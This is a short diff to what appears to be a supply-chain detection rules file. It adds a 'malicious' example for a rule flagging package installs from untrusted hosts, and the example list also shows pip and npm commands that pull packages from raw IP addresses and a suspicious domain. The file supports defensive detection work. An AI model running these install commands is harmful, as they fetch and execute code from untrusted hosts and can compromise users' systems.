@@ -27,6 +27,7 @@ export const supplyChain: readonly RuleExamples[] = [
   {
     rule: "package-from-untrusted-host",
     malicious: [
+      code("pip install note-utils --index-url http://45.61.136.7:8080/simple"),
       code("npm i -g https://cdn.fmt-tools.top/fmt.tgz"),
       code("pip install http://193.23.55.8/kit.whl"),
     ],
